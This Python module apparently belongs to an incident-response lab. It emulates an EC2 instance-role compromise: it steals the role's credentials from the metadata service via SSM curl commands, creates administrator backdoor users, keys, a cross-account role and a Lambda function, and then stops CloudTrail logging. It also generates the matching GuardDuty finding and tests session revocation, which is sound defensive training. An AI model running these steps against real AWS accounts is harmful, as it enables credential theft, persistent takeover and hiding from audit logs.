"""The compromise, done the way an attacker does it (after Stratus Red Team's
ec2-steal-instance-credentials): steal the instance role's session key, use it from a
threat-list address for discovery and persistence, use the backdoor user's own key to
make more, and stop the trail. Every call is real against the lab's AWS and is written
to CloudTrail; then GuardDuty's finding is built from what was seen."""

import json
import secrets
from datetime import UTC, datetime, timedelta
from typing import Any, Literal
from urllib.parse import unquote

import boto3
from pydantic import BaseModel

from activities.ssm import parse_credentials_document
from config.names import REVOKE_SESSIONS_POLICY_NAME
from lab.calls import Caller, Clock, ScenarioReport, key_session
from lab.cloudtrail import Actor, TrailRecorder, assumed_role_identity, iam_user_identity
from lab.guardduty import instance_role_finding
from lab.world import REGION, LabWorld, admin_session, client, lambda_zip

THREAT_IP = "198.51.100.23"  # documentation range, on the lab's custom threat list
ATTACKER_AGENT = "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024"
CORPORATE_IP = "203.0.113.10"
CONSOLE_AGENT = "AWS Internal"
APP_AGENT = "Boto3/1.35.0 md/Botocore#1.35.0 ua/2.0 os/linux lang/python#3.12.3"
OUTSIDE_ACCOUNT = "999988887777"
STOLEN_SESSION_AGE = timedelta(hours=1)  # how long before the attack EC2 issued the session

BACKDOOR_USER = "backup-svc"
BACKDOOR_ROLE = "ops-support-role"
BACKDOOR_FUNCTION = "log-rotate"
SECOND_GENERATION_USER = "svc-monitor"
LEGITIMATE_NEW_USER = "new-hire-dana"


class AttackReport(ScenarioReport):
    """What the EC2-role attack did; it holds no secret."""

    scenario: Literal["ec2-role"] = "ec2-role"
    stolen_access_key_id: str
    backdoor_user: str
    backdoor_access_key_id: str
    backdoor_role: str
    backdoor_function: str
    second_generation_user: str
    second_generation_access_key_id: str
    legitimate_user_created: str


def _stolen_session(world: LabWorld, stolen_key: str, attack_start: datetime) -> dict[str, Any]:
    """The identity CloudTrail records for the instance's role session the attacker stole:
    issued by EC2 a while before the attack began."""
    return assumed_role_identity(
        account_id=world.account_id,
        role_name=world.role_name,
        role_id=world.role_id,
        session_name=world.instance_id,
        access_key_id=stolen_key,
        issued_at=attack_start - STOLEN_SESSION_AGE,
        ec2_role_delivery=True,
    )


def steal_instance_credentials(
    endpoint_url: str, world: LabWorld, ssm: Any | None = None
) -> dict[str, str]:
    """The theft: read the role's credentials from inside the instance, as Stratus does
    through SSM (an SSRF in the application would serve the same document); `ssm` is the
    instance's account's, when that is not the lab's own."""
    ssm = ssm or client(admin_session(), "ssm", endpoint_url)
    command = ssm.send_command(
        InstanceIds=[world.instance_id],
        DocumentName="AWS-RunShellScript",
        Parameters={
            "commands": [
                'T=$(curl -sS -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-'
                'metadata-token-ttl-seconds: 60")',
                'curl -sS -H "X-aws-ec2-metadata-token: $T" '
                f"http://169.254.169.254/latest/meta-data/iam/security-credentials/{world.role_name}",
            ]
        },
    )["Command"]
    output = ssm.get_command_invocation(
        CommandId=command["CommandId"], InstanceId=world.instance_id
    )["StandardOutputContent"]
    document = json.loads(output[output.find("{") : output.rfind("}") + 1])
    return {k: document[k] for k in ("AccessKeyId", "SecretAccessKey", "Token", "LastUpdated")}


def run_attack(endpoint_url: str, world: LabWorld, now: datetime | None = None) -> AttackReport:
    now = now or datetime.now(UTC).replace(microsecond=0)
    start = now - timedelta(minutes=30)
    recorder = TrailRecorder(account_id=world.account_id, bucket=world.cloudtrail_bucket)
    clock = Clock(start)

    stolen = steal_instance_credentials(endpoint_url, world)
    # The document's own key is checked the way Quench's probe reads it.
    stolen_key = parse_credentials_document(json.dumps(stolen))["AccessKeyId"]
    session_identity = _stolen_session(world, stolen_key, start)

    # The application's own calls with the same session, from the instance: legitimate.
    for i in range(24):
        recorder.record(
            Actor(session_identity, world.instance_private_ip, APP_AGENT),
            service="ssm",
            operation="GetParameter",
            region=REGION,
            at=start - timedelta(hours=6) + timedelta(minutes=15 * i),
            request={"Name": "/orders/db-host"},
            response=None,
        )

    stolen_session = boto3.Session(
        aws_access_key_id=stolen_key,
        aws_secret_access_key=stolen["SecretAccessKey"],
        aws_session_token=stolen["Token"],
        region_name=REGION,
    )
    attacker = Caller(
        recorder,
        Actor(session_identity, THREAT_IP, ATTACKER_AGENT),
        stolen_session,
        endpoint_url,
        clock,
    )
    admin = Caller(
        recorder,
        Actor(
            iam_user_identity(
                account_id=world.account_id,
                user_name=world.admin_user,
                user_id=world.admin_user_id,
                access_key_id=world.admin_key_id,
            ),
            CORPORATE_IP,
            CONSOLE_AGENT,
        ),
        admin_session(),
        endpoint_url,
        clock,
    )

    # Discovery.
    attacker("sts", "GetCallerIdentity")
    attacker("iam", "ListUsers")
    attacker("ec2", "DescribeInstances")
    attacker("s3", "ListBuckets")
    attacker("secretsmanager", "ListSecrets", denied="AccessDenied")
    # Meanwhile an administrator does ordinary work: it must survive the response.
    admin("iam", "CreateUser", UserName=LEGITIMATE_NEW_USER)
    admin(
        "iam",
        "AttachUserPolicy",
        UserName=LEGITIMATE_NEW_USER,
        PolicyArn="arn:aws:iam::aws:policy/ReadOnlyAccess",
    )
    # Persistence: a backdoor administrator with a key and a console password.
    backdoor_user = attacker("iam", "CreateUser", UserName=BACKDOOR_USER)["User"]
    attacker(
        "iam",
        "AttachUserPolicy",
        UserName=BACKDOOR_USER,
        PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess",
    )
    backdoor_key = attacker("iam", "CreateAccessKey", UserName=BACKDOOR_USER)["AccessKey"]
    attacker(
        "iam",
        "CreateLoginProfile",
        UserName=BACKDOOR_USER,
        Password=secrets.token_urlsafe(18) + "!aA1",
        PasswordResetRequired=False,
    )
    # A role another account can assume, and a function that runs with it.
    role = attacker(
        "iam",
        "CreateRole",
        RoleName=BACKDOOR_ROLE,
        AssumeRolePolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"},
                        "Action": "sts:AssumeRole",
                    },
                    {
                        "Effect": "Allow",
                        "Principal": {"Service": "lambda.amazonaws.com"},
                        "Action": "sts:AssumeRole",
                    },
                ],
            }
        ),
    )["Role"]
    attacker(
        "iam",
        "AttachRolePolicy",
        RoleName=BACKDOOR_ROLE,
        PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess",
    )
    attacker(
        "lambda",
        "CreateFunction",
        FunctionName=BACKDOOR_FUNCTION,
        Runtime="python3.12",
        Role=role["Arn"],
        Handler="handler.handle",
        Code={"ZipFile": lambda_zip("def handle(event, context):\n    return None\n")},
    )

    # The backdoor user's own key makes the next generation.
    backdoor = Caller(
        recorder,
        Actor(
            iam_user_identity(
                account_id=world.account_id,
                user_name=BACKDOOR_USER,
                user_id=backdoor_user["UserId"],
                access_key_id=backdoor_key["AccessKeyId"],
            ),
            THREAT_IP,
            ATTACKER_AGENT,
        ),
        key_session(backdoor_key),
        endpoint_url,
        clock,
    )
    backdoor("sts", "GetCallerIdentity")
    backdoor("iam", "CreateUser", UserName=SECOND_GENERATION_USER)
    second_key = backdoor("iam", "CreateAccessKey", UserName=SECOND_GENERATION_USER)["AccessKey"]
    backdoor(
        "iam",
        "PutUserPolicy",
        UserName=SECOND_GENERATION_USER,
        PolicyName="monitoring",
        PolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
            }
        ),
    )
    # Covering tracks: the last record the trail delivers before its gap.
    backdoor("cloudtrail", "StopLogging", Name=world.trail_name)
    attacker("iam", "ListAccessKeys", UserName=BACKDOOR_USER)  # unseen: logging is off

    finished = clock.next()
    # What GuardDuty saw: the stolen key's calls from the threat-list address.
    threat_calls = sorted(
        (datetime.fromisoformat(r["eventTime"].replace("Z", "+00:00")), r["eventName"])
        for r in recorder.records
        if r["userIdentity"].get("accessKeyId") == stolen_key and r["sourceIPAddress"] == THREAT_IP
    )
    delivered = len(recorder.records)
    files = recorder.deliver(client(admin_session(), "s3", endpoint_url))
    first_seen, first_api = threat_calls[0]
    last_seen = threat_calls[-1][0]
    finding = instance_role_finding(
        account_id=world.account_id,
        region=world.region,
        access_key_id=stolen_key,
        principal_id=f"{world.role_id}:{world.instance_id}",
        role_name=world.role_name,
        instance_id=world.instance_id,
        instance_profile_arn=world.profile_arn,
        instance_profile_id=world.profile_id,
        remote_ip=THREAT_IP,
        api=first_api,
        service_name="sts.amazonaws.com",
        user_agent=ATTACKER_AGENT,
        first_seen=first_seen,
        last_seen=last_seen,
        count=len(threat_calls),
    )
    return AttackReport(
        stolen_access_key_id=stolen_key,
        backdoor_user=BACKDOOR_USER,
        backdoor_access_key_id=backdoor_key["AccessKeyId"],
        backdoor_role=BACKDOOR_ROLE,
        backdoor_function=BACKDOOR_FUNCTION,
        second_generation_user=SECOND_GENERATION_USER,
        second_generation_access_key_id=second_key["AccessKeyId"],
        legitimate_user_created=LEGITIMATE_NEW_USER,
        started_at=start,
        finished_at=finished,
        log_files=files,
        records_delivered=delivered,
        records_not_logged=recorder.dropped,
        finding=finding,
    )


# What the attacker tries again with the stolen key once the case has contained it.
RETURN_CALLS = (("sts", "GetCallerIdentity"), ("iam", "ListUsers"), ("s3", "ListBuckets"))


class ReturnReport(BaseModel):
    """The attacker's second try with the stolen key; it holds no secret."""

    stolen_access_key_id: str
    attempts: int
    denied: int
    log_files: list[str]


def attacker_returns(
    endpoint_url: str, world: LabWorld, attack: AttackReport, now: datetime | None = None
) -> ReturnReport:
    """The attacker tries the stolen key again (its secret is the attacker's, not the
    lab's: no call is made, each is written to CloudTrail as AWS would answer it). A call
    is refused when the role's AWSRevokeOlderSessions policy cuts off sessions issued
    before the stolen one's; GetCallerIdentity needs no permission and always works, as
    in AWS. Logged only if the trail is logging now."""
    # CloudTrail writes whole seconds: the next one, so no call falls before containment.
    now = now or datetime.now(UTC).replace(microsecond=0) + timedelta(seconds=1)
    admin = admin_session()
    identity = _stolen_session(world, attack.stolen_access_key_id, attack.started_at)
    issued_at = attack.started_at - STOLEN_SESSION_AGE
    revoked = _sessions_cut_off_after(client(admin, "iam", endpoint_url), world, issued_at)
    recorder = TrailRecorder(account_id=world.account_id, bucket=world.cloudtrail_bucket)
    status = client(admin, "cloudtrail", endpoint_url).get_trail_status(Name=world.trail_name)
    recorder.logging = bool(status.get("IsLogging"))
    actor = Actor(identity, THREAT_IP, ATTACKER_AGENT)
    clock = Clock(now, timedelta(seconds=1))
    denied = 0
    for service, operation in RETURN_CALLS:
        refused = revoked and (service, operation) != ("sts", "GetCallerIdentity")
        denied += refused
        by = "with an explicit deny in an identity-based policy" if refused else None
        recorder.attempt(actor, service, operation, clock.next(), by, region=REGION)
    files = recorder.deliver(client(admin, "s3", endpoint_url))
    return ReturnReport(
        stolen_access_key_id=attack.stolen_access_key_id,
        attempts=len(RETURN_CALLS),
        denied=denied,
        log_files=files,
    )


def _sessions_cut_off_after(iam: Any, world: LabWorld, issued_at: datetime) -> bool:
    """Whether the role's AWSRevokeOlderSessions policy denies a session issued then."""
    try:
        document = iam.get_role_policy(
            RoleName=world.role_name, PolicyName=REVOKE_SESSIONS_POLICY_NAME
        )["PolicyDocument"]
    except iam.exceptions.NoSuchEntityException:
        return False
    if isinstance(document, str):
        document = json.loads(unquote(document))
    statements = document.get("Statement", [])
    for statement in [statements] if isinstance(statements, dict) else statements:
        cutoff = (
            (statement.get("Condition") or {}).get("DateLessThan", {}).get("aws:TokenIssueTime")
        )
        if statement.get("Effect") == "Deny" and cutoff:
            if issued_at < datetime.fromisoformat(str(cutoff).replace("Z", "+00:00")):
                return True
    return False
